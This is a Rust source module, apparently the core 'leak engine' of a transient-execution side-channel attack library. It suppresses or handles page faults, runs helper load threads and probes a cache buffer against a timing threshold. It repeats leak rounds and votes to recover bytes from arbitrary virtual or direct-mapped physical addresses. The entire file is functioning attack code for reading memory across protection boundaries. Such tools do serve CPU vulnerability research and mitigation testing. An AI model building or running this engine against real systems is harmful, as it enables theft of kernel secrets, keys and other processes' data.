//! The leak engine: owns the probe buffer, load threads and fault
//! suppression strategy, and turns repeated single-shot leaks into a byte.

use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;

use log::{debug, log_enabled, warn, Level};

use crate::cache::{ProbeBuffer, PAGE_SIZE, SLOTS};
use crate::config::{autoconfig, Config};
use crate::error::{Error, Result};
use crate::fault::{Attempt, Strategy};
use crate::load::LoadThreads;
use crate::translate;

/// Only one engine may own the SIGSEGV handler and the probe buffer at a time.
static ACTIVE: AtomicBool = AtomicBool::new(false);

/// How often each value won a leak round. Bucket 0 collects rounds that
/// produced no signal. Also tallies how the individual protected attempts
/// behind those rounds ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Histogram {
    votes: [u32; SLOTS],
    attempts: [u32; 3],
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram {
            votes: [0; SLOTS],
            attempts: [0; 3],
        }
    }
}

fn attempt_index(attempt: Attempt) -> usize {
    match attempt {
        Attempt::Completed => 0,
        Attempt::Recovered => 1,
        Attempt::Aborted => 2,
    }
}

impl Histogram {
    pub fn record(&mut self, value: u8) {
        self.votes[value as usize] += 1;
    }

    pub fn count(&self, value: u8) -> u32 {
        self.votes[value as usize]
    }

    pub fn record_attempt(&mut self, attempt: Attempt) {
        self.attempts[attempt_index(attempt)] += 1;
    }

    pub fn attempts(&self, attempt: Attempt) -> u32 {
        self.attempts[attempt_index(attempt)]
    }

    /// Most frequent non-zero value with at least `accept_after` votes, or 0.
    /// Ties go to the lower value.
    pub fn decide(&self, accept_after: u32) -> u8 {
        let mut best = (0u8, 0u32);
        for value in 1..SLOTS {
            let votes = self.votes[value];
            if votes > best.1 && votes >= accept_after {
                best = (value as u8, votes);
            }
        }
        best.0
    }

    fn log(&self, virtual_address: usize) {
        for (value, &votes) in self.votes.iter().enumerate() {
            if votes != 0 {
                debug!("{virtual_address:#x}: res_stat[{value:#x}] = {votes}");
            }
        }
        debug!(
            "{virtual_address:#x}: {} completed, {} recovered, {} aborted attempts",
            self.attempts(Attempt::Completed),
            self.attempts(Attempt::Recovered),
            self.attempts(Attempt::Aborted),
        );
    }
}

pub struct Engine {
    config: Config,
    probe: ProbeBuffer,
    load: LoadThreads,
    strategy: Option<Strategy>,
}

impl Engine {
    /// Sets up the engine. [`Config::AUTO`] is replaced by [`autoconfig`].
    ///
    /// Anything acquired before a failure is released again before the
    /// error is returned.
    pub fn init(config: Config) -> Result<Self> {
        if ACTIVE
            .compare_exchange(false, true, Ordering::SeqCst, Ordering::SeqCst)
            .is_err()
        {
            return Err(Error::AlreadyActive);
        }
        Self::acquire(config).inspect_err(|_| ACTIVE.store(false, Ordering::SeqCst))
    }

    fn acquire(mut config: Config) -> Result<Self> {
        let page_size = page_size::get();
        if page_size != PAGE_SIZE {
            return Err(Error::PageSize(page_size));
        }
        if config.is_auto() {
            config = autoconfig();
        }
        config.check()?;

        let probe = ProbeBuffer::new()?;
        debug!("Probe buffer at {:#x}", probe.base() as usize);
        let load = LoadThreads::spawn(config.load_threads, config.load_type)?;
        let strategy = Strategy::install(config.fault_handling)?;
        debug!("Fault handling: {:?}", strategy.fault_handling());

        Ok(Engine {
            config,
            probe,
            load,
            strategy: Some(strategy),
        })
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    /// Direct map alias of `physical_address` under this engine's offset.
    pub fn physical_to_virtual(&self, physical_address: usize) -> Result<usize> {
        translate::physical_to_virtual(physical_address, self.config.physical_offset)
    }

    /// Runs `measurements` leak rounds against `virtual_address`.
    pub fn histogram(&mut self, virtual_address: usize) -> Histogram {
        let mut histogram = Histogram::default();
        thread::yield_now();
        for _ in 0..self.config.measurements {
            let value = self.read_once(virtual_address, &mut histogram);
            histogram.record(value);
        }
        if log_enabled!(Level::Debug) {
            histogram.log(virtual_address);
        }
        histogram
    }

    /// Leaks one byte, or returns 0 if no value gathered enough votes.
    pub fn read_byte(&mut self, virtual_address: usize) -> u8 {
        self.histogram(virtual_address).decide(self.config.accept_after)
    }

    pub fn read(&mut self, virtual_address: usize, len: usize) -> Vec<u8> {
        (0..len)
            .map(|i| self.read_byte(virtual_address.wrapping_add(i)))
            .collect()
    }

    /// One round: leak, then scan the slots in order. The first hit above
    /// slot 0 is the result; a round that never hits yields 0.
    #[inline(never)]
    fn read_once(&self, virtual_address: usize, histogram: &mut Histogram) -> u8 {
        let Some(strategy) = self.strategy.as_ref() else {
            return 0;
        };
        let threshold = self.config.cache_miss_threshold;
        for _ in 0..=self.config.retries {
            let attempt = unsafe { strategy.attempt(virtual_address, self.probe.base()) };
            histogram.record_attempt(attempt);
            for value in 0..SLOTS {
                if self.probe.probe(value, threshold) && value >= 1 {
                    return value as u8;
                }
                thread::yield_now();
            }
            thread::yield_now();
        }
        0
    }

    /// Restores the previous SIGSEGV disposition, stops the load threads and
    /// frees the probe buffer.
    pub fn cleanup(mut self) -> Result<()> {
        self.release()
    }

    fn release(&mut self) -> Result<()> {
        let Some(strategy) = self.strategy.take() else {
            return Ok(());
        };
        let restored = strategy.uninstall();
        self.load.stop();
        ACTIVE.store(false, Ordering::SeqCst);
        restored?;
        debug!("Everything is cleaned up, good bye!");
        Ok(())
    }
}

impl Drop for Engine {
    fn drop(&mut self) {
        if let Err(e) = self.release() {
            warn!("engine cleanup failed: {e}");
        }
    }
}
